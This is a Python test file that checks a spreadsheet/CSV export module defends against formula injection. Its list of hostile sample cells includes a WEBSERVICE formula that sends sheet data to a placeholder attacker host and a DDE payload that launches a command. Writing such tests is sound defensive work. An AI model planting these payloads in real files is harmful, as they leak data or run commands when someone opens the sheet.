"""Every spreadsheet and CSV bangfu writes treats every value as text: no cell is ever a live formula
(OWASP "CSV injection"). One hostile name, exported with clear numbers, must not be able to send the sheet
anywhere when a clerk opens it."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from jobs.rendering import csv_value, looks_like_formula, simple_workbook, write_csv
from jobs.rendering.xlsx import StreamingSheet, append_row, new_streaming_workbook, put

HOSTILE = [
    '=WEBSERVICE("http://evil.example/?"&TEXTJOIN(",",1,C:D))',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert looks_like_formula(text)
    assert csv_value(text) == "'" + text


def test_numbers_dates_and_ordinary_text_are_written_as_they_are():
    assert csv_value(-5) == -5 and csv_value(3.5) == 3.5
    assert csv_value("张三") == "张三" and csv_value(None) == ""


def test_a_csv_file_holds_no_cell_a_spreadsheet_would_run():
    buffer = io.BytesIO()
    write_csv(buffer, ["姓名", "备注"], [[text, "=1"] for text in HOSTILE[:4]])
    text = buffer.getvalue().decode("utf-8-sig")
    for line in text.splitlines()[1:]:
        assert line.startswith("'") or line.startswith('"\'')


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets/" in name)


def saved(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("write_only", [False, True])
def test_an_xlsx_string_is_string_data_never_a_formula(write_only):
    workbook = new_streaming_workbook() if write_only else Workbook()
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    append_row(sheet, HOSTILE)
    if not write_only:
        put(sheet, 2, 1, HOSTILE[0])
    data = saved(workbook)
    assert "<f>" not in sheet_xml(data)
    values = [cell.value for cell in load_workbook(io.BytesIO(data)).worksheets[-1][1]]
    assert values[0] == HOSTILE[0]
    assert all(cell.data_type == "s" for cell in load_workbook(io.BytesIO(data)).worksheets[-1][1])


def test_a_streamed_export_sheet_and_a_one_sheet_workbook_hold_no_formula():
    workbook = new_streaming_workbook()
    sheet = StreamingSheet(workbook, "清单", ["姓名", "身份证号"], {1}, preamble=[[HOSTILE[0]]])
    sheet.append([HOSTILE[0], "=1+1"])
    sheet.close()
    assert "<f>" not in sheet_xml(saved(workbook))
    assert "<f>" not in sheet_xml(simple_workbook("台账", ["=A1"], [[HOSTILE[0], 1]]))


def test_control_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_export():
    data = simple_workbook("台账", ["名称"], [["张\x01三"]])
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "张三"
